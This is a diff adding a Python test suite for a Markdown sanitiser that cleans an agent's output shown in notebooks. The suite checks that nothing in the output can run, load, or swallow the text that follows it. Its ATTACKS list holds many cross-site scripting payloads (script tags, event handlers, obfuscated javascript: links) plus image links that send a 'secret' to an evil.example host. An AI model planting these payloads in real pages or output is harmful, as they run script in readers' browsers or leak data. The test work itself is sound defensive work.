@@ -1,0 +1,184 @@
+"""An agent's Markdown in a trusted output: nothing runs, nothing loads, nothing is swallowed, code stays code."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from agentnb.ipython.fences import Fences, html_text
+from agentnb.ipython.markdown import harmless, harmless_line, safe_url
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from tests.unit.ipython.page import Page, pages
+
+HARMLESS = frozenset(
+    "a blockquote br code del details div em h1 h2 h3 h4 h5 h6 hr img input li ol p pre s section span strong summary sup "
+    "table tbody td th thead tr ul".split()
+)
+ATTRIBUTES = frozenset("align checked class colspan disabled href id src start style title type alt".split())
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "text <b onclick='x()'>b</b>",
+    "<!-- <script>x</script> -->",
+    "<![CDATA[<script>x</script>]]>",
+    "<?php x ?>",
+    "[a](javascript:alert(1))",
+    "[a](JaVaScRiPt:alert(1))",
+    "[a](java&#115;cript:alert(1))",
+    "[a](javascript&colon;alert(1))",
+    "[a](<javascript:alert(1)>)",
+    "[a](\tjavascript:alert(1))",
+    "[a](\\javascript:alert(1))",
+    "[a](vbscript:x) [b](data:text/html,<script>x</script>)",
+    "[a]( https://x.org \"t\" onclick=y )",
+    "<javascript:alert(1)>",
+    "[a]\n\n[a]: javascript:alert(1)",
+    "[a][b]\n\n[b]:\n   javascript:alert(1)",
+    "> [b]: javascript:alert(1)\n\n[b]",
+    "![a](javascript:alert(1))",
+    "![a](https://evil.example/pixel.png?q=secret)",
+    "![a][p]\n\n[p]: https://evil.example/pixel.png",
+    "[![a](https://evil.example/p.png)](javascript:x)",
+    "![a](data:image/svg+xml;base64,PHN2Zy8+)",
+    'https://a.org/$" onmouseover=alert(1) x="$',
+    'https://a.org/@@0@@ and $" onmouseover=alert(1) x="$',
+    '[x](https://a.org "$" onmouseover=alert(1) x="$")',
+    '[x](https://a.org/$"onmouseover=alert(1)$)',
+    'www.a.org/\\begin{x}"onmouseover=alert(1)\\end{x}',
+    'https://a.org](javascript:alert(1)) [https://b.org](javascript:alert(1))',
+    "```\"><script>alert(1)</script>\ncode\n```",
+    "```html onload=x\n<script>\n```\n<script>alert(1)</script>",
+    "~~~\n```\n~~~\n<script>alert(1)</script>",
+    "````\n```\n<script>\n````\n<script>",
+    "- ```\n<script>alert(1)</script>",
+    "1. ```\n   a\n  ```\n<script>alert(1)</script>",
+    "> ```\n<script>alert(1)</script>\n> ```",
+    "`a <script>` `` b ` <script> `` <script>",
+    "`unclosed <script>alert(1)</script>",
+    "    <script>alert(1)</script>\n\ttab <script>",
+    "- a\n\n      <script>\n\n  <script>",
+    "| a |\n|---|\n| `<script>` <script> |",
+    "\\<script>alert(1)</script> \\\\<script>x</script>",
+    "$a<script>b$ and $$\n<img src=x onerror=y>\n$$",
+    "a\r<script>\rb\x00<scr\x00ipt>",
+    "<\x01script>alert(1)</script>",
+    "\ud800<script>",
+]
+SNIPPETS = st.sampled_from(
+    [
+        *ATTACKS, "```", "~~~", "`", "``", "\n", "\n\n", "    ", "- ", "1. ", "> ", "\t", "<", ">", "&lt;", "&", "$", "$$", "\\", "]",
+        "](", "[a]", "[a]:", "![", "(", ")", "|", "---", "<details>", "<summary>", "</details>", "<pre>", "<!--", "-->", "#", "*", "_",
+        "https://a.org/", "www.a.org", "javascript:", "@@0@@", "\"", "'", "onclick=x", "{", "}", "a", " ", "def f():\n    pass", "  ",
+    ]
+)  # fmt: skip
+TEXTS = st.one_of(st.text(), st.lists(SNIPPETS, max_size=14).map("".join))
+ORDINARY = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Zl", "Zp", "Zs"]))
+
+
+def check(markdown: str) -> None:
+    for renderer, source in pages(markdown).items():
+        page = Page(source)
+        assert (renderer, set()) == (renderer, page.elements - HARMLESS), source
+        for element, name, value in page.attributes:
+            if renderer == "nbconvert" and name in {"class", "href", "id"} and "anchor-link" in source:
+                continue  # nbconvert's own heading anchors
+            assert name in ATTRIBUTES, (renderer, element, name, value, source)
+            if name in {"href", "src"}:
+                assert is_harmless_place(element, value), (renderer, element, name, value, source)
+
+
+def is_harmless_place(element: str, value: str) -> bool:
+    if element == "img":
+        return re.match(r"data:image/(png|jpeg|gif|webp);base64,", value) is not None
+    scheme = re.match(r"\s*([^/?#]*?):", value)
+    return scheme is None or scheme[1].lower() in {"http", "https", "mailto", "ftp"}
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_no_known_attack_survives_any_renderer(attack: str) -> None:
+    check(harmless(attack))
+    check(harmless_line(attack))
+    check(f"<details><summary>{html_text(attack)}</summary>\n\n{harmless(attack)}\n\n</details>")
+
+
+@given(TEXTS)
+@settings(max_examples=400, deadline=None)
+def test_no_text_makes_anything_that_runs_or_loads(text: str) -> None:
+    check(harmless(text))
+
+
+@given(TEXTS, TEXTS)
+@settings(max_examples=200, deadline=None)
+def test_no_text_swallows_what_follows_it(first: str, second: str) -> None:
+    fences = Fences.around([first, second])
+    document = f"{harmless(first, fences)}\n\n<div>mark</div>\n\n{harmless(second, fences)}\n\n<div>end</div>"
+    check(document)
+    for renderer, source in pages(document).items():
+        assert (renderer, 1, 1) == (renderer, source.count("<div>mark</div>"), source.count("<div>end</div>"))
+
+
+@given(ORDINARY, st.sampled_from(["", "python", "html"]))
+@settings(deadline=None)
+def test_code_in_a_fence_reads_as_it_was_written(code: str, language: str) -> None:
+    marks = "`" * (max(map(len, re.findall("`+", code)), default=2) + 3)
+    markdown = harmless(f"before\n\n{marks}{language}\n{code}\n{marks}\n\nafter")
+    for renderer in ("commonmark", "mistune"):
+        assert (renderer, [code]) == (renderer, [block.rstrip("\n") for block in Page(pages(markdown)[renderer]).code])
+
+
+@pytest.mark.parametrize("inside", ["- {}", "1. {}", "> {}", "- > {}"])
+@pytest.mark.parametrize("code", ["x = 1", "if a < b:", "<script>alert(1)</script>", "a[1](x) ![y](z)", "`b`"])
+def test_code_inside_lists_and_quotes_reads_as_it_was_written(inside: str, code: str) -> None:
+    first = inside.format("```python")
+    rest = re.sub(r"[^\s>]", " ", inside.format(""))
+    markdown = harmless(f"{first}\n{rest}{code}\n{rest}```")
+    for renderer in ("commonmark", "mistune"):
+        assert (renderer, [code]) == (renderer, [block.rstrip("\n") for block in Page(pages(markdown)[renderer]).code])
+
+
+@pytest.mark.parametrize("code", ["a < b", "<b>", "x[1](y)", "List[int]", "a*b_c*d", "$HOME", "`` ` ``".strip("` ") or "`"])
+def test_code_in_a_line_reads_as_it_was_written(code: str) -> None:
+    markdown = harmless(f"see `` {code} `` there")
+    for renderer, source in pages(markdown).items():
+        assert (renderer, f"see {code} there") == (renderer, "".join(Page(source).text).strip())
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("plain *words* and **more**, 3 < 4", "plain *words* and **more**, 3 < 4"),
+        ("# Head\n\n- a\n- b\n\n> q", "# Head\n\n- a\n- b\n\n> q"),
+        ("| a | b |\n|---|---|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 | 2 |"),
+        ("[x](https://a.org/b?c=d&e=f#g)", "[x](https://a.org/b?c=d&amp;e=f#g)"),
+        ("[x](docs/a%20b.md) <https://a.org>", "[x](docs/a%20b.md) https://a.org"),
+        ("$a<b$ and $x_1$", r"$a\lt b$ and $x_1$"),
+        ("```python\nx\n```", "````python\nx\n````"),
+        ("~~gone~~ `code`", "~~gone~~ `code`"),
+        ("![p](data:image/png;base64,iVBORw0=)", "![p](data:image/png;base64,iVBORw0=)"),
+        ("![p](https://a.org/p.png)", "[p](https://a.org/p.png)"),
+        ("- [ ] todo\n- [x] done", "- [ ] todo\n- [x] done"),
+    ],
+)
+def test_ordinary_markdown_stays_as_it_is(text: str, expected: str) -> None:
+    assert expected == harmless(text)
+
+
+@pytest.mark.parametrize(
+    ("target", "expected"),
+    [
+        ("https://a.org", "https://a.org"),
+        ("mailto:a@b.org", "mailto:a@b.org"),
+        ("a/b.md#c", "a/b.md#c"),
+        ("a.md?x=1:2", "a.md?x=1:2"),
+        ("", ""),
+        ("javascript:x", None),
+        ("JAVASCRIPT:x", None),
+        ("file:///etc/passwd", None),
+        ("data:text/html,x", None),
+        ("java&#x73;cript:x", None),
+    ],
+)
+def test_a_link_leads_to_the_web_to_mail_or_to_a_relative_place(target: str, expected: str | None) -> None:
+    assert expected == safe_url(target)
